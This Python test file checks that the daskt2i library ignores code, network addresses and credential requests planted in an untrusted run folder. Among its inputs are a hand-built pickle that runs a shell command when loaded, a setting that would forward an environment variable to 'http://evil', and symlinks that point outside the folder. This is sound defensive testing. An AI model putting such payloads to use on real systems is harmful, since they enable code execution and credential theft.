"""Reading somebody else's run folder runs no code of it, and takes nothing from where it says."""

from __future__ import annotations

import json
import shutil
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import yaml
from builders.workflows import fake_data, fake_settings, finish

import daskt2i
from daskt2i.encode.saved_workflow import read_settings, settings_of, strangers
from daskt2i.encode.verify import verify
from daskt2i.errors import ConfigError, StoreError
from daskt2i.store.publishing.links import outward_links
from daskt2i.store.run_folder import RunFolder


@pytest.fixture(scope="module")
def finished(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run folder. Do not change it."""
    out = tmp_path_factory.mktemp("strangers") / "run"
    finish(fake_settings(rows=8), out)
    return out


@pytest.fixture
def theirs(finished: Path, tmp_path: Path) -> Path:
    """A copy of it, as somebody else may have changed it."""
    return Path(shutil.copytree(finished, tmp_path / "theirs"))


@pytest.fixture
def listener() -> Iterator[tuple[int, list[Any]]]:
    """A port, and who connected to it."""
    heard: list[Any] = []
    server = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        while True:
            try:
                connection, address = server.accept()
            except OSError:
                return
            heard.append(address)
            connection.close()

    threading.Thread(target=serve, daemon=True).start()
    yield server.getsockname()[1], heard
    server.shutdown(socket.SHUT_RDWR)
    server.close()


def source_of(folder: Path, /, **source: Any) -> None:
    data = fake_data(rows=8)
    data["dataset"]["source"] = source
    (folder / "workflow.yaml").write_text(yaml.safe_dump(data))


COCO = "daskt2i.sources.coco.CocoSource"


@pytest.mark.parametrize(
    "source",
    [
        {"class": "daskt2i.executors.dask.Client", "address": "tcp://127.0.0.1:PORT"},
        {"class": "distributed.Client", "address": "tcp://127.0.0.1:PORT"},
        {"class": "urllib.request.urlopen", "url": "http://127.0.0.1:PORT"},
        {"class": "daskt2i.sources.scenes.write_scenes", "folder": "x", "rows": 1},
        {"class": "daskt2i.bench.encode.rows.BenchRows"},
        {"class": COCO, "images": "x", "captions": "dask://127.0.0.1:PORT/c.json"},
        {"class": COCO, "images": "reference://::http://127.0.0.1:PORT/r.json", "captions": "c.json"},
        {"class": COCO, "images": "simplecache::http://127.0.0.1:PORT/i", "captions": "c.json"},
        {"class": COCO, "images": "ssh://127.0.0.1:PORT/i", "captions": "c.json"},
    ],
    ids=lambda source: " ".join(map(str, source.values()))[:60],
)
def test_what_only_a_folder_names_is_not_used(
    source: dict[str, Any], theirs: Path, listener: tuple[int, list[Any]]
) -> None:
    port, heard = listener
    source_of(theirs, **{key: str(value).replace("PORT", str(port)) for key, value in source.items()})
    folder = RunFolder(theirs)
    found = verify(folder, settings_of(folder))
    assert found.ok
    assert any("only a folder names" in note for note in found.notes)
    with pytest.raises(ConfigError, match="workflow file yourself"):
        daskt2i.open_run(theirs, scheduler="serial", progress=False).encode()
    assert heard == []


def test_paths_and_addresses_that_only_read_are_used(theirs: Path) -> None:
    paths = ("/data/train", "train.zip", "C:\\data", "/data/run::1/images", "run::1", "file:x", "/data/a://b")
    for images in (*paths, "s3://b/x", "zip://a::s3://b/x.zip", "https://host/i"):
        source_of(theirs, **{"class": COCO, "images": images, "captions": "c.json"})
        folder = RunFolder(theirs)
        assert strangers(read_settings(folder), folder) == []


def test_credentials_that_a_folder_asks_for_are_not_given(theirs: Path) -> None:
    """An `env:` name in somebody else's settings would send a variable of this user to an address of theirs."""
    asks = {"key": "env:HOME", "client_kwargs": {"endpoint_url": "http://evil"}}
    source_of(theirs, **{"class": COCO, "images": "s3://b/x", "captions": "s3://b/c", "storage_options": asks})
    assert "storage_options" not in read_settings(RunFolder(theirs)).dataset.source.arguments


LINKS = [
    *("latents.zarr", "receipts", "pipeline/unet/model.safetensors", "scenes", "attempts"),
    *("latents.zarr/latent_mean/c.0.0.0.0", "latents.zarr/latent_mean/c", "latents.zarr/empty_text_states/c/0/0"),
]


@pytest.mark.parametrize("name", LINKS)
def test_a_link_that_leads_out_of_the_folder_is_found(name: str, theirs: Path, tmp_path: Path) -> None:
    place, elsewhere = theirs / name, tmp_path / "elsewhere"
    place.parent.mkdir(parents=True, exist_ok=True)
    place.rename(elsewhere) if place.exists() else elsewhere.mkdir()
    place.symlink_to(elsewhere)
    assert outward_links(RunFolder(theirs)) == [name]
    with pytest.raises(ConfigError, match="link that leads out"):
        daskt2i.open_run(theirs, scheduler="serial", progress=False).encode()


@pytest.mark.parametrize("name", ["caption", "image_id"])
def test_damaged_metadata_of_any_array_are_found(name: str, theirs: Path) -> None:
    (theirs / "latents.zarr" / name / "zarr.json").write_text("[]")
    folder = RunFolder(theirs)
    with pytest.raises(StoreError, match=f"metadata of the array {name}"):
        verify(folder, settings_of(folder))


def test_a_link_inside_the_folder_is_no_matter(theirs: Path) -> None:
    (theirs / "receipts").rename(theirs / "kept")
    (theirs / "receipts").symlink_to("kept")
    (theirs / "latents.zarr" / "circle").symlink_to(".")
    assert outward_links(RunFolder(theirs)) == []
    assert outward_links(RunFolder("memory://nowhere")) == []


@pytest.mark.filterwarnings("ignore:Object at caption is not recognized")
def test_an_array_of_pickles_is_not_opened(theirs: Path, tmp_path: Path) -> None:
    """Zarr v2 has a codec that unpickles. A store of daskt2i is v3, which has none."""
    array = theirs / "latents.zarr" / "caption"
    shutil.rmtree(array)
    array.mkdir()
    meta = {
        "zarr_format": 2, "shape": [1], "chunks": [1], "dtype": "|O", "compressor": None, "fill_value": None,
        "order": "C", "filters": [{"id": "pickle", "protocol": 5}],
    }  # fmt: skip
    (array / ".zarray").write_text(json.dumps(meta))
    (array / ".zattrs").write_text(json.dumps({"_ARRAY_DIMENSIONS": ["row"]}))
    command = f"cos\nsystem\n(S'touch {tmp_path / 'ran'}'\ntR."
    (array / "0").write_bytes(command.encode())
    dataset = daskt2i.open_store(theirs)
    assert "caption" not in dataset
    assert np.asarray(dataset["image_id"]).shape == (8,)
    assert not (tmp_path / "ran").exists()
